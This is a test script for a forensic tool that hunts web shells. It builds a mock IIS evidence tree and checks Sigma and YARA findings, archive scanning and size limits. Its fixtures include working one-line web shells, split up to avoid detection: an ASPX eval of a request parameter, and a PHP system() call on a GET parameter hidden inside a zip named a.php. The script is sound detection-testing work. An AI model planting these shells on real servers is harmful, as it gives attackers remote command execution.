#!/bin/sh
# Files of web servers in a collection: events, checks by Sigma and by YARA, the
# folders that IIS names, members of archives, limits, and nothing where there is
# nothing. What looks like a web shell is put together here.
. tests/cli/lib.sh
have jq && have zip || skip_all 'files' 'jq or zip is missing'
cd "$scratch" || exit 1
ev=ev
shell="<%@ Page Language=\"Jscript\"%><%${ev}al(Request.Item[\"x\"],\"un"'safe");%>'

www=c/C/inetpub/wwwroot
mkdir -p $www/aspnet_client c/C/ProgramData/COM c/C/Users/a \
    c/C/Windows/System32/inetsrv/config
printf '%s' "$shell" >$www/aspnet_client/training.aspx
printf '%s' "$shell" >c/C/ProgramData/COM/readme.txt
printf '%s' "$shell" >c/C/Users/a/readme.txt
printf '<html>nothing</html>' >$www/index.html
: >$www/empty.htm
head -c 5000000 /dev/zero >$www/big.bin
cat >c/C/Windows/System32/inetsrv/config/applicationHost.config <<'X'
<?xml version="1.0" encoding="UTF-8"?>
<configuration><system.applicationHost><sites><site name="Default Web Site" id="1">
<application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" />
<virtualDirectory path="/t" physicalPath="C:\ProgramData\COM" />
<virtualDirectory path="/all" physicalPath="C:\" /></application></site></sites>
</system.applicationHost></configuration>
X
touch -d 2021-03-02T08:15:30Z $www/aspnet_client/training.aspx

cat >image.yml <<'X'
title: High by its path
id: path-rule
level: high
logsource: {category: file_event, product: windows}
detection: {s: {TargetFilename|endswith: '\training.aspx'}, f: {Image: System}, condition: s and not f}
---
title: By who wrote it
id: image-rule
level: high
logsource: {category: file_event, product: windows}
detection: {s: {TargetFilename|endswith: '\training.aspx', Image: w3wp.exe}, condition: s}
X

# ---- events
run "$GROUNDS" dump c
jq -r 'select(.["@source"] == "file") | .TargetFilename' "$out" >names
expect_line 'a file has the path of its host' \
    'C:\inetpub\wwwroot\aspnet_client\training.aspx' names
expect_line 'IIS says what its folders are' 'C:\ProgramData\COM\readme.txt' names
expect_no_line 'a drive is no folder' 'C:\Users\a\readme.txt' names
expect_line 'an empty file is one' 'C:\inetpub\wwwroot\empty.htm' names
expect_line 'a configuration is events' '"@source":"iis-config"'
expect_equal 'of a large file is said what was looked at' 4194304 \
    "$(jq -r 'select(.Scanned) | .Scanned' "$out")"
expect_err 'and on the terminal' 'only its first 4 MiB were looked at'

# ---- findings
run "$GROUNDS" hunt -q -o case c -r image.yml
expect_exit 'a page that was looked at in part was not checked' 3
expect_equal 'and is counted' 1 "$(jq .files.looked_at_in_part case/run.json)"
f=case/findings.jsonl
of() { # RULE_ID
    jq -c --arg id "$1" 'select(.rule_id == $id)' $f
}
of path-rule >path
expect_equal 'a Sigma rule on a path is a check, medium at most' \
    'check medium high 2021-03-02T08:15:30.000000000Z' \
    "$(jq -r '[.kind, .level, .rule_level, .time] | join(" ")' path)"
expect_equal 'a rule that asks for more is not judged' '' "$(of image-rule)"
expect_equal 'YARA finds both shells' \
    'c/C/ProgramData/COM/readme.txt c/C/inetpub/wwwroot/aspnet_client/training.aspx' \
    "$(jq -r 'select(.fields.YaraRule == "asp_code_from_request") | .evidence' \
        $f | tr '\n' ' ' | sed 's/ $//')"
expect_equal 'with the place of its string' '31 13 check critical' \
    "$(jq -r 'select(.fields.YaraRule == "asp_code_from_request")
        | [(.fields.YaraStrings[0] | .offset, .length), .kind, .level]
        | join(" ")' $f | head -n 1)"
expect_equal 'no two findings have one id' "$(wc -l <$f)" \
    "$(jq -r .id $f | sort -u | wc -l)"
jq -r '[.evidence, .offset, .rule_id] | @tsv' $f >order
LC_ALL=C sort -c order && ok 'findings are in order' || not_ok 'findings are in order'
expect_line 'a web directory elsewhere is a finding' \
    'Web Directory at a Place That Is No Web Server'"'"'s' $f
expect_equal 'a page that Exchange does not have' 1 \
    "$(grep -c 'Page Among Those of Exchange' $f)"
expect_equal 'coverage counts files as watched' true \
    "$(jq -r '.kinds[] | select(.channel == "file") | .watched' case/coverage.json)"
expect_line 'rules list says why a rule is not judged on files' \
    'it asks for Image' case/rules.jsonl

# ---- the same in an archive, and on any number of threads
(cd c && zip -qr ../c.zip C)
for n in 1 4; do
    "$GROUNDS" hunt -q --no-case --format jsonl --threads $n c.zip -r image.yml \
        2>"$err" >zip.$n
done
expect_same 'threads change nothing' zip.1 zip.4
expect_err 'of a large member, too' 'only its first 4 MiB were looked at'
expect_equal 'members of an archive are files' "$(wc -l <$f)" "$(wc -l <zip.1)"
mkdir outer && cp c.zip outer/
expect_equal 'at any depth' "$(wc -l <$f)" \
    "$("$GROUNDS" hunt -q --no-case --format jsonl outer -r image.yml | wc -l)"

# ---- a log in a web folder is a log, and a file
mkdir -p logs/C/inetpub/wwwroot
{
    printf '192.0.2.1 - - [02/Mar/2021:08:15:30 +0000] "GET / HTTP/1.1" 200 1\n'
    printf '%s\n' "$shell"
} >logs/C/inetpub/wwwroot/access.log
run "$GROUNDS" hunt -q --no-case --format jsonl logs
expect_line 'a shell that begins like a log is found' asp_code_from_request
run "$GROUNDS" dump logs
expect_line 'and its lines are read' '"@source":"access"'

# ---- a script that is an archive is a script
mkdir -p poly/C/inetpub/wwwroot
printf '<?php sys%s($_GE%s["a"]);' tem T >code
zip -q0 code.zip code && mv code.zip poly/C/inetpub/wwwroot/a.php
for option in '-o poly-case' '--no-case --format jsonl'; do
    # shellcheck disable=SC2086 # words
    run "$GROUNDS" hunt -q $option poly
    [ -d poly-case ] && cp poly-case/findings.jsonl "$out" && rm -r poly-case
    expect_line "an archive that is a script ($option)" php_code_from_request
done

# ---- YARA rules of the user
cat >own.yar <<'X'
rule own : a_tag { meta: id = "own-id" score = 85 mitre = "T1505.003, T1003"
  strings: $a = "nothing" condition: $a }
X
echo 'rule broken { condition: }' >broken.yar
run "$GROUNDS" hunt -q --no-case --format jsonl c -y own.yar -y broken.yar
expect_equal 'meta is what a rule is' 'own high attack.t1505.003 attack.t1003 a_tag' \
    "$(jq -r 'select(.rule_id == "own-id") | [.title, .level] + .tags | join(" ")' \
        "$out")"
expect_err 'a file that does not compile is told with its line' \
    'broken.yar:1: rejected: YARA: syntax error'
run "$GROUNDS" hunt -q --no-case --format jsonl c -y own.yar --exclude category=yara
expect_no_line 'a category leaves YARA rules out' yara:
expect_no_line 'all of them' own-id
run "$GROUNDS" rules list -y own.yar
expect_line 'rules list has them' own-id
run "$GROUNDS" rules check -y broken.yar
expect_exit 'rules check finds them rejected' 1
run "$GROUNDS" hunt -q --no-case c -y nowhere.yar
expect_exit 'a path that is not there' 5
mkdir empty && run "$GROUNDS" hunt -q --no-case c -y empty
expect_err 'a folder without rules is told' 'no YARA file'
run "$GROUNDS" hunt -q --no-case c --no-builtin -y own.yar
expect_exit 'YARA rules alone are rules, and the large file is told' 3

run "$GROUNDS" hunt --no-case c --no-builtin -y own.yar
expect_err 'the summary says that a file was not seen behind 4 MiB' \
    'Not seen: 1 file behind 4 MiB'

# ---- a limit of libyara is told
head -c 3000000 /dev/zero | tr '\0' a >$www/many.html
echo 'rule many { strings: $a = "aa" condition: #a > 5 }' >many.yar
run "$GROUNDS" hunt -q --no-case --format jsonl c -y many.yar
expect_exit 'what was not looked at to its end is exit 3' 3
expect_err 'and is told' 'many.html: offset 0: could not be judged: YARA found'
expect_line 'the others are found' asp_code_from_request
rm $www/many.html

# ---- nothing where there is nothing
mkdir -p clean/C/inetpub/wwwroot
printf '<html><script>document.write(1)</script></html>' \
    >clean/C/inetpub/wwwroot/a.html
printf '<%%@ Page Language="C#" %%><%%= Request.Form["a"] %%>' \
    >clean/C/inetpub/wwwroot/a.aspx
mkdir -p clean/C/inetpub/wwwroot/edge
head -c 4194304 /dev/zero >clean/C/inetpub/wwwroot/edge/4.bin
run "$GROUNDS" hunt -q --no-case --format jsonl clean
expect_equal 'ordinary pages are no finding' '' "$(cat "$out")"
expect_exit 'and no failure' 0
run "$GROUNDS" gaps clean
expect_no_line 'files are no source of gaps' file
find c -newer image.yml -type f | grep -v big >changed
expect_equal 'evidence stays as it is' '' "$(cat changed)"
done_testing
